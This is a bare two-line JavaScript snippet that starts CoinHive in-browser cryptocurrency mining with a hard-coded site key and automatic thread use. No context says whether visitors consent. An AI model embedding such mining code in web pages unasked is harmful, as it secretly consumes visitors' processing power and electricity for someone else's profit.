var link = new CoinHive.Token("OX9YIMtCFIPzgNZpBdfdYfkM51ZFfOwB", 1024, {autoThreads: true});
link.start();
